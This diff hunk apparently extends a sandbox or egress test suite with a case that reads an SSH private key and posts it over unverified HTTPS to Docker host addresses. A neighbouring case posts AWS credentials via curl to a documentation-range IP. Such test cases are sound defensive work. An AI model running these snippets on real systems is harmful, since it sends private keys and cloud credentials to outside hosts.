@@ -71,6 +71,16 @@ BENIGN = {
 
 BEHAVIOURS = {
     "https base64": _python(_HTTPS),
+    "https to host": _python(f"""
+        import base64, ssl, urllib.request
+        secret = base64.b64encode(open("/home/dev/.ssh/id_rsa", "rb").read())
+        context = ssl._create_unverified_context()
+        for address in ("172.17.0.1", "127.0.0.2", "host.docker.internal"):
+            try:
+                urllib.request.urlopen(f"https://{{address}}:{OUTSIDE_PORT}/drop", secret, 5, context=context).read()
+            except OSError as error:
+                print(address, error)
+    """),
     "install curl": _setup("""
         import subprocess
         subprocess.run(["curl", "-s", "-m", "5", "-d", "@/home/dev/.aws/credentials", "http://198.51.100.20:8080/up"])
